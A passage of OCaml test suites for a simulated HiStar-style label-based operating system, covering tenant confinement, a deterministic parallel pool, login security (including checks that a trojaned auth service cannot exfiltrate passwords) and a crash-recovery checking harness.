      Alcotest.(check bool) "peek still refused" true (peek () = Error "denied");
      Alcotest.(check string) "identical denial either way" reply
        (Lio_eval.read_out t ~tenant:"alice");
      Alcotest.(check int) "denials counted" 2 (Lio_eval.denied t);
      Alcotest.(check bool) "service label clean after denials" true
        (Lio_eval.clean t))

let test_lio_eval_error_confined () =
  run_lio_eval (fun t ->
      Lio_eval.set_var t ~tenant:"alice" "x" 3;
      Alcotest.(check bool)
        "division by zero reported, not fatal" true
        (Lio_eval.eval t ~tenant:"alice" Lio_eval.(Div (Lit 1, Lit 0))
        = Error "eval failed");
      Alcotest.(check string) "outbox carries the error" "ERR eval"
        (Lio_eval.read_out t ~tenant:"alice");
      (* the service survives and keeps serving *)
      Alcotest.(check bool)
        "next request fine" true
        (Lio_eval.eval t ~tenant:"alice" Lio_eval.(Var "x") = Ok ());
      Alcotest.(check string) "outbox updated" "3"
        (Lio_eval.read_out t ~tenant:"alice");
      Alcotest.(check bool) "service label clean" true (Lio_eval.clean t))

let () =
  Alcotest.run "histar_apps"
    [
      ( "scanner",
        [
          Alcotest.test_case "signatures" `Quick test_signature_matching;
          Alcotest.test_case "verdict codec" `Quick test_verdict_roundtrip;
        ] );
      ( "wrap",
        [
          Alcotest.test_case "finds virus" `Quick test_wrap_scan_finds_virus;
          Alcotest.test_case "with helpers" `Quick test_wrap_scan_with_helpers;
          Alcotest.test_case "cleans up" `Quick test_wrap_cleans_up;
          Alcotest.test_case "timeout kills" `Quick
            test_wrap_timeout_kills_scanner;
        ] );
      ( "attacks",
        [
          Alcotest.test_case "compromised scanner contained" `Quick
            test_compromised_scanner_leaks_nothing;
          Alcotest.test_case "update daemon no user data" `Quick
            test_update_daemon_cannot_read_user_data;
          Alcotest.test_case "update daemon updates" `Quick
            test_update_daemon_updates_db;
        ] );
      ( "vpn",
        [
          Alcotest.test_case "vpn reaches corp" `Quick test_vpn_reaches_corp;
          Alcotest.test_case "inet reaches web" `Quick test_inet_reaches_web;
          Alcotest.test_case "corp data stays in" `Quick
            test_corp_data_cannot_exit_to_internet;
          Alcotest.test_case "inet data stays out" `Quick
            test_internet_data_cannot_enter_corp;
        ] );
      ("build", [ Alcotest.test_case "compile+link" `Quick test_build_sim ]);
      ( "lio eval",
        [
          Alcotest.test_case "two tenants, one thread" `Quick
            test_lio_eval_tenants;
          Alcotest.test_case "cross-tenant peek denied" `Quick
            test_lio_eval_cross_tenant_denied;
          Alcotest.test_case "eval error confined" `Quick
            test_lio_eval_error_confined;
        ] );
    ]
