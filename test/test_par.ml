(* Determinism properties of the lib/par domain pool.

   The pool's contract is that [Par.run n f] is observationally
   identical to the sequential loop [f 0; f 1; ...; f (n-1)] as far as
   the returned array, the re-raised exception, and any per-domain
   metric shards are concerned — at every domain count, under any
   completion order.  These tests perturb completion order on purpose
   (slow-task injection keyed off the task index) and check
   bit-identical results at HISTAR_DOMAINS in {1, 2, 8}. *)

module Par = Histar_par.Par
module Metrics = Histar_metrics.Metrics
module Label = Histar_label.Label

let dcounts = [ 1; 2; 8 ]

(* Busy-wait long enough to let other workers overtake; pure spin so
   the test stays portable (no Unix dependency in the loop body). *)
let spin n =
  let acc = ref 0 in
  for i = 1 to n do
    acc := !acc + (i land 7)
  done;
  ignore (Sys.opaque_identity !acc)

let slow_for i = if i mod 7 = 3 then spin 2_000_000 else ()

(* --- ordered join: results land in submission order ------------------- *)

let test_ordered_join () =
  let n = 64 in
  let reference = Array.init n (fun i -> Printf.sprintf "task-%d:%d" i (i * i)) in
  List.iter
    (fun d ->
      let got =
        Par.run ~domains:d n (fun i ->
            slow_for i;
            Printf.sprintf "task-%d:%d" i (i * i))
      in
      Alcotest.(check (array string))
        (Printf.sprintf "ordered results at %d domains" d)
        reference got)
    dcounts

(* --- exception: lowest-index failure wins, like the sequential loop --- *)

let test_first_error_wins () =
  let n = 40 in
  List.iter
    (fun d ->
      let raised =
        try
          ignore
            (Par.run ~domains:d n (fun i ->
                 (* make later failures finish first *)
                 if i < 20 then spin 1_000_000;
                 if i mod 9 = 4 then failwith (Printf.sprintf "boom-%d" i);
                 i)
              : int array);
          "no-exn"
        with Failure m -> m
      in
      Alcotest.(check string)
        (Printf.sprintf "lowest-index exception at %d domains" d)
        "boom-4" raised)
    dcounts

(* --- split_seed: pure, injective-in-practice fan-out seeds ------------ *)

let test_split_seed () =
  let seed = 0x5EED_CAFEL in
  let a = Array.init 64 (fun i -> Par.split_seed seed i) in
  let b = Array.init 64 (fun i -> Par.split_seed seed i) in
  Alcotest.(check (array int64)) "split_seed deterministic" a b;
  let tbl = Hashtbl.create 64 in
  Array.iter (fun s -> Hashtbl.replace tbl s ()) a;
  Alcotest.(check int) "split_seed collision-free over 64 lanes" 64
    (Hashtbl.length tbl);
  Alcotest.(check bool) "split differs from parent" true
    (Array.for_all (fun s -> s <> seed) a)

(* --- sealed: nested Par.run inside a task runs inline ----------------- *)

let test_sealed_nesting () =
  Alcotest.(check bool) "not in task at top level" false (Par.in_task ());
  let inner_flags =
    Par.run ~domains:2 4 (fun _ ->
        let nested = Par.run ~domains:8 3 (fun j -> (Par.in_task (), j)) in
        Array.for_all (fun (inside, _) -> inside) nested
        && Array.map snd nested = [| 0; 1; 2 |])
  in
  Alcotest.(check bool) "nested runs are inline and ordered" true
    (Array.for_all Fun.id inner_flags);
  Alcotest.(check bool) "flag restored" false (Par.in_task ())

(* --- metrics: per-domain shards merge to the sequential totals -------- *)

let test_metrics_merge_independent () =
  let c = Metrics.counter "par.test.hits" in
  let h = Metrics.histogram "par.test.lat" ~bounds:[| 1; 10; 100 |] in
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  let run d =
    Metrics.reset ();
    ignore
      (Par.run ~domains:d 32 (fun i ->
           slow_for i;
           Metrics.Counter.add c (i + 1);
           Metrics.Histogram.observe h ((i * 13) mod 120);
           i)
        : int array);
    ( Metrics.Counter.value c,
      Metrics.Histogram.count h,
      Metrics.Histogram.sum h,
      Metrics.Histogram.bucket_counts h )
  in
  let reference = run 1 in
  List.iter
    (fun d ->
      let got = run d in
      Alcotest.(check bool)
        (Printf.sprintf "merged metrics identical at %d domains" d)
        true (got = reference))
    dcounts;
  (* the merged total is the arithmetic series regardless of sharding *)
  let total, _, _, _ = reference in
  Alcotest.(check int) "counter sums shards" (32 * 33 / 2) total;
  Metrics.set_enabled was

(* --- labels: weak intern table keeps pointer-equality under load ------ *)

let test_label_intern_stress () =
  let lvl = Histar_label.Level.of_int in
  let mk i =
    Label.of_list
      [
        (Histar_label.Category.of_int (i mod 17), lvl 3);
        (Histar_label.Category.of_int (100 + (i mod 5)), lvl 0);
      ]
      (lvl (if i land 1 = 0 then 1 else 2))
  in
  List.iter
    (fun d ->
      let labels =
        Par.run ~domains:d 256 (fun i ->
            let a = mk i in
            let b = mk i in
            (* hash-consing: structurally equal labels intern to the
               same pointer even when built on different domains *)
            if a != b then
              failwith (Printf.sprintf "intern broke pointer eq at %d" i);
            ignore (Label.leq a b : bool);
            ignore (Label.lub a b : Label.t);
            a)
      in
      (* same (i mod 17, i mod 5, parity) triple => same interned label *)
      Array.iteri
        (fun i a ->
          let j = i mod 170 in
          if
            i mod 17 = j mod 17
            && i mod 5 = j mod 5
            && i land 1 = j land 1
            && labels.(j) != a
          then Alcotest.failf "cross-domain intern mismatch %d vs %d" i j)
        labels)
    dcounts

(* --- measured speedup (env-gated) ------------------------------------ *)

(* The >= 3x wall-clock claim at 8 domains: 8 independent conformance
   fuzz passes (split seeds), 1 domain vs 8. Wall-clock ratios are
   meaningless on single-core or shared hosts, so this only runs when
   explicitly requested (HISTAR_PAR_SPEEDUP=1, set by the nightly CI
   job on a multi-core runner) — the HISTAR_CHECK_SPEEDUP pattern. *)
let test_par_speedup () =
  if Stdlib.Sys.getenv_opt "HISTAR_PAR_SPEEDUP" <> Some "1" then ()
  else begin
    let module Conf = Histar_check.Conformance in
    let module Check = Histar_check.Check in
    let passes = 8 in
    let sweep ~domains ~runs =
      ignore
        (Conf.run_fuzz_many ~domains ~runs ~passes ~seed:Check.default_seed ()
          : Conf.fuzz_stats list)
    in
    sweep ~domains:8 ~runs:50 (* warm the pool and allocators *);
    let time domains =
      let t0 = Unix.gettimeofday () in
      sweep ~domains ~runs:400;
      Unix.gettimeofday () -. t0
    in
    let t1 = time 1 in
    let t8 = time 8 in
    let ratio = t1 /. t8 in
    Format.printf "par: %d fuzz passes — 1 domain %.2fs, 8 domains %.2fs (%.1fx)@."
      passes t1 t8 ratio;
    if ratio < 3.0 then
      Alcotest.failf "8-domain fuzz sweep only %.1fx faster than 1-domain"
        ratio
  end

(* --- env parsing ------------------------------------------------------ *)

let test_domains_config () =
  let saved = Par.domains () in
  Par.set_domains 3;
  Alcotest.(check int) "set_domains" 3 (Par.domains ());
  Alcotest.(check bool) "zero rejected" true
    (match Par.set_domains 0 with
    | () -> false
    | exception Invalid_argument _ -> true);
  Par.set_domains saved

let () =
  Alcotest.run "par"
    [
      ( "pool",
        [
          Alcotest.test_case "ordered join under perturbation" `Quick
            test_ordered_join;
          Alcotest.test_case "lowest-index error wins" `Quick
            test_first_error_wins;
          Alcotest.test_case "split_seed" `Quick test_split_seed;
          Alcotest.test_case "sealed nesting" `Quick test_sealed_nesting;
          Alcotest.test_case "domains config" `Quick test_domains_config;
        ] );
      ( "shards",
        [
          Alcotest.test_case "metrics merge interleaving-independent" `Quick
            test_metrics_merge_independent;
          Alcotest.test_case "label intern stress" `Quick
            test_label_intern_stress;
        ] );
      ( "speedup",
        [
          Alcotest.test_case ">=3x at 8 domains (HISTAR_PAR_SPEEDUP=1)" `Quick
            test_par_speedup;
        ] );
    ]
