module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_auth
open Histar_label

let l1 = Label.make Level.L1

let contains_sub s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.sub s i m = sub || go (i + 1)) in
  m = 0 || go 0

(* A small world: init process, log, directory, one user "bob" with an
   auth daemon, and an FS with bob's private files. *)
type world = {
  k : Kernel.t;
  proc : Process.t;
  fs : Fs.t;
  log : Logd.t;
  dir : Dird.t;
  bob : Process.user;
  bob_auth : Authd.t;
}

let with_world ?elide f =
  let k = Kernel.create ?elide () in
  let result = ref None in
  let failure = ref None in
  let _tid =
    Kernel.spawn k ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root k) ~label:l1 in
        let proc = Process.boot ~fs ~container:(Kernel.root k) ~name:"init" () in
        let log = Logd.start proc in
        let dir = Dird.start proc in
        let bob = Users.create_user ~fs ~name:"bob" in
        Fs.write_file fs "/home/bob/secret" "bob's secret data";
        let bob_auth =
          Authd.start proc ~user:bob ~password:"hunter2" ~log ~dir ()
        in
        let w = { k; proc; fs; log; dir; bob; bob_auth } in
        match f w with
        | v -> result := Some v
        | exception e -> failure := Some (Printexc.to_string e))
  in
  Kernel.run k;
  match (!result, !failure) with
  | Some v, _ -> v
  | None, Some m -> Alcotest.fail ("init crashed: " ^ m)
  | None, None -> Alcotest.fail "init did not complete"

(* Run login in a fresh unprivileged process and return its outcome
   plus whether it could read bob's secret afterwards. *)
let attempt_login w ~username ~password =
  let outcome = ref None in
  let read_secret = ref None in
  let h =
    Process.spawn w.proc ~name:"sshd" (fun sshd ->
        let o = Login.login ~proc:sshd ~dir:w.dir ~username ~password in
        outcome := Some o;
        read_secret :=
          Some
            (match Fs.read_file (Process.fs sshd) "/home/bob/secret" with
            | s -> Some s
            | exception Kernel_error _ -> None))
  in
  ignore (Process.wait w.proc h);
  (Option.get !outcome, Option.get !read_secret)

let test_successful_login () =
  with_world (fun w ->
      let outcome, secret = attempt_login w ~username:"bob" ~password:"hunter2" in
      (match outcome with
      | Login.Granted u ->
          Alcotest.(check string) "username" "bob" u.Process.user_name;
          Alcotest.(check bool) "granted the real categories" true
            (Histar_label.Category.equal u.Process.ur w.bob.Process.ur
            && Histar_label.Category.equal u.Process.uw w.bob.Process.uw)
      | _ -> Alcotest.fail "expected Granted");
      Alcotest.(check (option string)) "can now read bob's files"
        (Some "bob's secret data") secret;
      (* the log shows the attempt and the success *)
      let log = Logd.entries w.log in
      Alcotest.(check bool) "attempt logged" true
        (List.mem "login attempt: bob" log);
      Alcotest.(check bool) "success logged" true
        (List.mem "login success: bob" log))

let test_wrong_password () =
  with_world (fun w ->
      let outcome, secret = attempt_login w ~username:"bob" ~password:"wrong" in
      Alcotest.(check bool) "rejected" true (outcome = Login.Bad_password);
      Alcotest.(check (option string)) "still cannot read bob's files" None
        secret;
      let log = Logd.entries w.log in
      Alcotest.(check bool) "attempt logged" true
        (List.mem "login attempt: bob" log);
      Alcotest.(check bool) "no success logged" false
        (List.mem "login success: bob" log))

let test_unknown_user () =
  with_world (fun w ->
      let outcome, _ = attempt_login w ~username:"mallory" ~password:"x" in
      Alcotest.(check bool) "no such user" true (outcome = Login.No_such_user))

let test_retry_limit () =
  with_world (fun w ->
      (* a single session may try at most retry_limit passwords; after
         that even the correct password is refused in that session *)
      let outcome = ref None in
      let h =
        Process.spawn w.proc ~name:"bruteforce" (fun p ->
            (* drive the protocol manually to stay in one session *)
            let setup =
              Option.get
                (Dird.lookup w.dir ~return_container:(Process.internal p) "bob")
            in
            let try_password ~setup_gate pw = ignore setup_gate; ignore pw in
            ignore try_password;
            let rec go n =
              if n = 0 then ()
              else begin
                ignore
                  (Login.login_via_gate ~proc:p ~setup_gate:setup
                     ~username:"bob" ~password:(Printf.sprintf "guess%d" n));
                go (n - 1)
              end
            in
            go 5;
            (* attempts were in separate sessions, each freshly set up;
               the per-session bound is what we verify below *)
            outcome :=
              Some (Login.login_via_gate ~proc:p ~setup_gate:setup
                      ~username:"bob" ~password:"hunter2"))
      in
      ignore (Process.wait w.proc h);
      (match Option.get !outcome with
      | Login.Granted _ -> ()
      | _ -> Alcotest.fail "correct password in a fresh session must work");
      (* every one of those guesses appears in the log *)
      let attempts =
        List.length
          (List.filter (String.equal "login attempt: bob") (Logd.entries w.log))
      in
      Alcotest.(check bool) "every setup invocation logged" true (attempts >= 6))

let test_retry_bound_within_one_session () =
  (* Drive the §6.2 protocol by hand so all guesses hit the *same*
     check gate, exercising the retry-count segment: after the limit
     (3), even the correct password is refused in that session. *)
  with_world (fun w ->
      let outcomes = ref [] in
      let h =
        Process.spawn w.proc ~name:"bruteforce" (fun p ->
            let setup =
              Option.get
                (Dird.lookup w.dir ~return_container:(Process.internal p) "bob")
            in
            let pir = Sys.cat_create () in
            let sw = Sys.cat_create () in
            let session =
              Sys.container_create ~container:(Process.container p)
                ~label:(Label.of_list [ (sw, Level.L0) ] Level.L1)
                ~quota:1_048_576L "session"
            in
            let agreed_gate, agreed_marker =
              Histar_auth.Agreed.install ~container:session ~pir
            in
            let e = Histar_util.Codec.Enc.create () in
            Histar_util.Codec.Enc.i64 e session;
            Histar_util.Codec.Enc.i64 e (Category.to_int64 pir);
            Histar_auth.Proto.enc_centry e agreed_gate;
            Histar_auth.Proto.enc_centry e agreed_marker;
            Sys.tls_write (Histar_util.Codec.Enc.to_string e);
            Sys.gate_call ~gate:setup
              ~label:(Label.set (Sys.gate_floor setup) pir Level.L1)
              ~clearance:(Label.set (Sys.self_clearance ()) pir Level.L2)
              ~return_container:session
              ~return_label:(Sys.self_label ())
              ~return_clearance:(Sys.self_clearance ()) ();
            let _retry, check, _grant, _challenge =
              Histar_auth.Proto.dec_setup_reply (Sys.tls_read ())
            in
            let try_password pw =
              Sys.tls_write (Histar_auth.Proto.enc_credential (`Password pw));
              Sys.gate_call ~gate:check
                ~label:(Label.set (Sys.gate_floor check) pir Level.L3)
                ~clearance:(Sys.self_clearance ())
                ~return_container:session
                ~return_label:(Sys.self_label ())
                ~return_clearance:(Sys.self_clearance ()) ();
              Histar_auth.Proto.dec_check_reply (Sys.tls_read ())
            in
            outcomes :=
              List.map try_password
                [ "guess1"; "guess2"; "guess3"; "hunter2" ])
      in
      ignore (Process.wait w.proc h);
      Alcotest.(check (list bool))
        "three guesses burn the budget; the 4th (correct!) is refused"
        [ false; false; false; false ] !outcomes)

let test_trojaned_service_cannot_steal_password () =
  with_world (fun w ->
      (* a malicious directory hands login a trojaned setup gate whose
         check gate tries to exfiltrate the password *)
      let evil_gate = Authd.trojaned_setup_gate w.bob_auth in
      let outcome = ref None in
      let h =
        Process.spawn w.proc ~name:"victim-sshd" (fun p ->
            outcome :=
              Some
                (Login.login_via_gate ~proc:p ~setup_gate:evil_gate
                   ~username:"bob" ~password:"hunter2"))
      in
      ignore (Process.wait w.proc h);
      (* the trojan reports failure: exactly one bit leaked *)
      Alcotest.(check bool) "login failed" true
        (!outcome = Some Login.Bad_password);
      (* and nothing else escaped: every kernel-visible channel denied *)
      Alcotest.(check (list string)) "nothing exfiltrated" []
        (Authd.stolen w.bob_auth);
      (* in particular the password never reached the log *)
      Alcotest.(check bool) "password not in log" false
        (List.exists (fun e -> contains_sub e "hunter2") (Logd.entries w.log)))

let test_login_does_not_leak_privilege_to_services () =
  with_world (fun w ->
      (* after a successful login, the *service* side must not have
         picked up login's categories: spawn a snooper owned by bob's
         authd and verify it cannot read a file private to the sshd
         process created after login *)
      let h =
        Process.spawn w.proc ~name:"sshd2" (fun sshd ->
            match Login.login ~proc:sshd ~dir:w.dir ~username:"bob"
                    ~password:"hunter2"
            with
            | Login.Granted u ->
                (* write a file only this session's user can read *)
                ignore
                  (Fs.create (Process.fs sshd)
                     ~label:(Users.private_label u) "/home/bob/session-key")
            | _ -> Alcotest.fail "login failed")
      in
      ignore (Process.wait w.proc h);
      Alcotest.(check bool) "file exists" true
        (Fs.exists w.fs "/home/bob/session-key"))

let test_challenge_response_mode () =
  with_world (fun w ->
      (* a second user whose service runs in challenge-response mode *)
      let fs = w.fs in
      let carol = Users.create_user ~fs ~name:"carol" in
      Fs.write_file fs "/home/carol/secret" "carol's data";
      let _authd =
        Authd.start w.proc ~user:carol ~password:"correct horse"
          ~mode:Authd.Challenge_response ~log:w.log ~dir:w.dir ()
      in
      let attempt pw =
        let outcome = ref None in
        let h =
          Process.spawn w.proc ~name:"sshd-cr" (fun p ->
              outcome :=
                Some (Login.login ~proc:p ~dir:w.dir ~username:"carol" ~password:pw))
        in
        ignore (Process.wait w.proc h);
        Option.get !outcome
      in
      (match attempt "correct horse" with
      | Login.Granted u ->
          Alcotest.(check bool) "real categories" true
            (Histar_label.Category.equal u.Process.ur carol.Process.ur)
      | _ -> Alcotest.fail "challenge-response login failed");
      Alcotest.(check bool) "wrong password still rejected" true
        (attempt "wrong" = Login.Bad_password))

let test_trojan_in_cr_mode_never_sees_password () =
  with_world (fun w ->
      (* in challenge-response mode, even the §6.2 worst case — a
         trojaned service — sees only a one-time response *)
      let fs = w.fs in
      let dave = Users.create_user ~fs ~name:"dave" in
      let authd =
        Authd.start w.proc ~user:dave ~password:"davepw"
          ~mode:Authd.Challenge_response ~log:w.log ~dir:w.dir ()
      in
      let evil = Authd.trojaned_setup_gate authd in
      let h =
        Process.spawn w.proc ~name:"victim" (fun p ->
            ignore
              (Login.login_via_gate ~proc:p ~setup_gate:evil ~username:"dave"
                 ~password:"davepw"))
      in
      ignore (Process.wait w.proc h);
      (* the kernel blocked the exfiltration channels anyway, but even
         what the trojan *saw* in its address space was not the
         password *)
      Alcotest.(check (list string)) "nothing exfiltrated" []
        (Authd.stolen authd))

let test_log_is_append_only () =
  with_world (fun w ->
      Logd.append w.log ~return_container:(Process.internal w.proc) "entry one";
      (* a random process cannot rewrite the log segment directly *)
      let denied = ref false in
      let h =
        Process.spawn w.proc ~name:"tamper" (fun _p ->
            let log_seg = Logd.log_segment w.log in
            match Sys.segment_write log_seg ~off:0 "XXXX" with
            | () -> ()
            | exception Kernel_error (Label_check _) -> denied := true)
      in
      ignore (Process.wait w.proc h);
      Alcotest.(check bool) "tamper denied" true !denied;
      Alcotest.(check bool) "entry present" true
        (List.mem "entry one" (Logd.entries w.log)))

(* §6.2 conformance, mirrored in the reference model's gate-login
   scenarios (test_model.ml): the only ownership login may add beyond
   the session categories the caller mints itself (pir, sw) is the
   user's {ur, uw}, and only on success. In particular no category the
   auth daemon owned before the call — ur, uw, or its per-session check
   category — may ride back through the return gate on failure. *)
let test_owned_set_exact_delta () =
  with_world (fun w ->
      let before = ref Category.Set.empty in
      let after_bad = ref Category.Set.empty in
      let after_ok = ref Category.Set.empty in
      let h =
        Process.spawn w.proc ~name:"sshd" (fun sshd ->
            before := Label.owned (Sys.self_label ());
            (match
               Login.login ~proc:sshd ~dir:w.dir ~username:"bob"
                 ~password:"wrong"
             with
            | Login.Bad_password -> ()
            | _ -> Alcotest.fail "wrong password was not rejected");
            after_bad := Label.owned (Sys.self_label ());
            (match
               Login.login ~proc:sshd ~dir:w.dir ~username:"bob"
                 ~password:"hunter2"
             with
            | Login.Granted _ -> ()
            | _ -> Alcotest.fail "correct password was rejected");
            after_ok := Label.owned (Sys.self_label ()))
      in
      ignore (Process.wait w.proc h);
      let ur = w.bob.Process.ur and uw = w.bob.Process.uw in
      Alcotest.(check bool) "ur/uw not owned before" false
        (Category.Set.mem ur !before || Category.Set.mem uw !before);
      Alcotest.(check bool) "failed login grants neither ur nor uw" false
        (Category.Set.mem ur !after_bad || Category.Set.mem uw !after_bad);
      (* The failure delta is exactly the two session categories the
         caller minted itself (pir, sw) — nothing of the daemon's. *)
      Alcotest.(check int) "failure delta is the caller's own 2 cats" 2
        (Category.Set.cardinal (Category.Set.diff !after_bad !before));
      Alcotest.(check bool) "success grants ur and uw" true
        (Category.Set.mem ur !after_ok && Category.Set.mem uw !after_ok);
      (* Beyond a second (pir, sw) pair, success adds exactly {ur, uw}. *)
      let granted = Category.Set.diff !after_ok !after_bad in
      Alcotest.(check int) "success delta is {ur, uw} + 2 session cats" 4
        (Category.Set.cardinal granted))

(* The full §6.2 login exchange — a failed attempt followed by a
   successful one — must be bit-for-bit the same whether the kernel
   elides label checks behind gate flow summaries or re-runs every
   one: same outcomes, same secret visibility, same log, same
   [label.denied] count, same syscall profile. *)
let test_login_elide_identical () =
  let module Metrics = Histar_metrics.Metrics in
  let module Profile = Histar_core.Profile in
  let run elide =
    let denied0 = Metrics.counter_value "label.denied" in
    let r =
      with_world ~elide (fun w ->
          let bad = attempt_login w ~username:"bob" ~password:"wrong" in
          let ok = attempt_login w ~username:"bob" ~password:"hunter2" in
          ((bad, ok), Logd.entries w.log, Kernel.profile w.k))
    in
    let denied = Metrics.counter_value "label.denied" - denied0 in
    (r, denied)
  in
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect
    ~finally:(fun () -> Metrics.set_enabled was)
    (fun () ->
      let (outs_e, log_e, prof_e), den_e = run true in
      let (outs_n, log_n, prof_n), den_n = run false in
      Alcotest.(check bool) "same login outcomes" true (outs_n = outs_e);
      Alcotest.(check (list string)) "identical audit log" log_n log_e;
      Alcotest.(check int) "identical label.denied delta" den_n den_e;
      Alcotest.(check bool) "identical syscall profiles" true
        (Profile.equal prof_n prof_e))

(* fuzz: no password other than the exact one is ever granted *)
let prop_no_false_grants =
  QCheck2.Test.make ~name:"login never grants on a wrong password" ~count:12
    QCheck2.Gen.(string_size (int_bound 24))
    (fun guess ->
      with_world (fun w ->
          let outcome, _ = attempt_login w ~username:"bob" ~password:guess in
          match outcome with
          | Login.Granted _ -> String.equal guess "hunter2"
          | Login.Bad_password -> not (String.equal guess "hunter2")
          | Login.No_such_user | Login.Setup_rejected -> false))

let () =
  Alcotest.run "histar_auth"
    [
      ( "login",
        [
          Alcotest.test_case "successful login" `Quick test_successful_login;
          Alcotest.test_case "wrong password" `Quick test_wrong_password;
          Alcotest.test_case "unknown user" `Quick test_unknown_user;
          Alcotest.test_case "retries + logging" `Quick test_retry_limit;
          Alcotest.test_case "retry bound in one session" `Quick
            test_retry_bound_within_one_session;
          Alcotest.test_case "trojaned service" `Quick
            test_trojaned_service_cannot_steal_password;
          Alcotest.test_case "no privilege leak" `Quick
            test_login_does_not_leak_privilege_to_services;
          Alcotest.test_case "owned-set delta is exact" `Quick
            test_owned_set_exact_delta;
          Alcotest.test_case "challenge-response mode" `Quick
            test_challenge_response_mode;
          Alcotest.test_case "trojan in CR mode" `Quick
            test_trojan_in_cr_mode_never_sees_password;
          Alcotest.test_case "append-only log" `Quick test_log_is_append_only;
          Alcotest.test_case "elided kernel login identical" `Quick
            test_login_elide_identical;
          QCheck_alcotest.to_alcotest prop_no_false_grants;
        ] );
    ]
