(* The checking harness itself: generator determinism, shrinking
   quality, the crash-point sweep over all three workload layers, and a
   meta-test proving an injected durability regression is caught with a
   replayable report. *)

module Gen = Histar_check.Gen
module Check = Histar_check.Check
module Crash_sweep = Histar_check.Crash_sweep
module Workloads = Histar_check.Workloads
module Ni = Histar_check.Noninterference
module Lio = Histar_lio.Lio
module Wal = Histar_wal.Wal
module Disk = Histar_disk.Disk
module Sim_clock = Histar_util.Sim_clock

let contains ~needle haystack =
  let n = String.length needle and h = String.length haystack in
  let rec go i = i + n <= h && (String.sub haystack i n = needle || go (i + 1)) in
  n = 0 || go 0

let check_mentions msg needles =
  List.iter
    (fun needle ->
      if not (contains ~needle msg) then
        Alcotest.fail (Printf.sprintf "report missing %S in:\n%s" needle msg))
    needles

(* ---------- generator engine ---------- *)

let test_generate_deterministic () =
  let gen = Gen.(list (pair nat (string_of char))) in
  let a = Gen.generate gen ~seed:42L ~size:20 in
  let b = Gen.generate gen ~seed:42L ~size:20 in
  if a <> b then Alcotest.fail "same seed produced different values";
  let c = Gen.generate gen ~seed:43L ~size:20 in
  if a = c then Alcotest.fail "different seeds produced identical values"

let test_shrink_int_to_boundary () =
  (* The minimal value violating [n < 10] is exactly 10. *)
  match
    Check.find_counterexample ~count:200 ~seed:1L
      (Gen.int_range 0 10_000)
      (fun n -> Check.ensure (n < 10))
  with
  | None -> Alcotest.fail "property n < 10 was never falsified"
  | Some n -> Alcotest.(check int) "shrunk to boundary" 10 n

let test_shrink_list_to_minimal () =
  (* The minimal list violating [length < 4] has exactly 4 elements,
     each shrunk to 0. *)
  match
    Check.find_counterexample ~count:200 ~seed:1L
      Gen.(list nat)
      (fun l -> Check.ensure (List.length l < 4))
  with
  | None -> Alcotest.fail "property length < 4 was never falsified"
  | Some l ->
      Alcotest.(check (list int)) "minimal counterexample" [ 0; 0; 0; 0 ] l

let test_shrink_respects_invariant () =
  (* Shrinking only ever proposes values the generator could have
     produced: int_range never shrinks below its lower bound. *)
  match
    Check.find_counterexample ~count:100 ~seed:7L (Gen.int_range 5 100)
      (fun n -> Check.ensure (n > 1_000))
  with
  | None -> Alcotest.fail "unsatisfiable property was never falsified"
  | Some n -> Alcotest.(check int) "shrunk to range minimum" 5 n

let test_run_reports_replay_seed () =
  match
    Check.run ~name:"always-false" ~count:5 ~seed:0xABCL Gen.nat (fun _ ->
        failwith "nope")
  with
  | () -> Alcotest.fail "property should have been falsified"
  | exception Check.Falsified msg ->
      check_mentions msg [ "HISTAR_CHECK_SEED=0xABC"; "counterexample:"; "nope" ]

(* ---------- crash sweep: real workloads ---------- *)

let reports : Crash_sweep.report list ref = ref []

let sweep_test ?max_points w =
  Alcotest.test_case ("sweep " ^ w.Crash_sweep.name) `Quick (fun () ->
      match Crash_sweep.sweep ?max_points w with
      | r ->
          reports := r :: !reports;
          if r.Crash_sweep.total_writes <= 0 then
            Alcotest.fail "workload performed no media writes";
          (* All three real workloads carry a model snapshot, so the
             sweep defaults to the O(W) fork-based path. *)
          if r.Crash_sweep.mode <> `Fork then
            Alcotest.fail "sweep did not default to fork mode";
          Format.printf "%a@." Crash_sweep.pp_report r
      | exception Check.Falsified msg -> Alcotest.fail msg)

(* Under a single-point replay (HISTAR_CHECK_WORKLOAD /
   HISTAR_CHECK_CRASH_INDEX) the sweep is deliberately narrowed, so
   whole-sweep meta-assertions don't apply. *)
let replaying () =
  Stdlib.Sys.getenv_opt "HISTAR_CHECK_WORKLOAD" <> None
  || Stdlib.Sys.getenv_opt "HISTAR_CHECK_CRASH_INDEX" <> None

let test_coverage () =
  (* Strided tier-1 sweeps still cover a healthy spread; the full sweep
     (HISTAR_CHECK_FULL=1) must exercise >= 200 distinct crash points
     across the three layers, per the §4 durability claim. *)
  if not (replaying ()) then begin
    let points =
      List.fold_left (fun acc r -> acc + r.Crash_sweep.points) 0 !reports
    in
    let floor = if Check.full_mode () then 200 else 48 in
    if points < floor then
      Alcotest.fail
        (Printf.sprintf "only %d crash points exercised (want >= %d)" points
           floor)
  end

(* ---------- fork vs replay: the double-run discipline ----------

   The same crash cell produced both ways must do metric-for-metric
   identical recovery work. This is the bit-identity contract that
   justifies switching the sweep default to the O(W) fork path. *)

let metric_list =
  Alcotest.(list (pair string int))

let test_fork_replay_recovery_identical () =
  if replaying () then ()
  else
    let seed = Check.default_seed in
    List.iter
      (fun w ->
        List.iter
          (fun index ->
            let fork =
              Crash_sweep.recovery_metrics w ~seed ~index ~mode:`Fork
            in
            let replay =
              Crash_sweep.recovery_metrics w ~seed ~index ~mode:`Replay
            in
            Alcotest.check metric_list
              (Printf.sprintf "%s @ %d: fork == replay" w.Crash_sweep.name
                 index)
              replay fork)
          [ 0; 3; 17 ])
      (Workloads.all ())

let test_cells_counter_and_throughput () =
  if replaying () then ()
  else begin
    let was = Histar_metrics.Metrics.enabled () in
    Histar_metrics.Metrics.set_enabled true;
    let cells0 = Histar_metrics.Metrics.counter_value "crash_sweep.cells" in
    let r =
      Fun.protect
        ~finally:(fun () -> Histar_metrics.Metrics.set_enabled was)
        (fun () -> Crash_sweep.sweep ~max_points:12 (Workloads.wal ()))
    in
    let cells = Histar_metrics.Metrics.counter_value "crash_sweep.cells" in
    Alcotest.(check int) "one cells tick per crash point" r.Crash_sweep.points
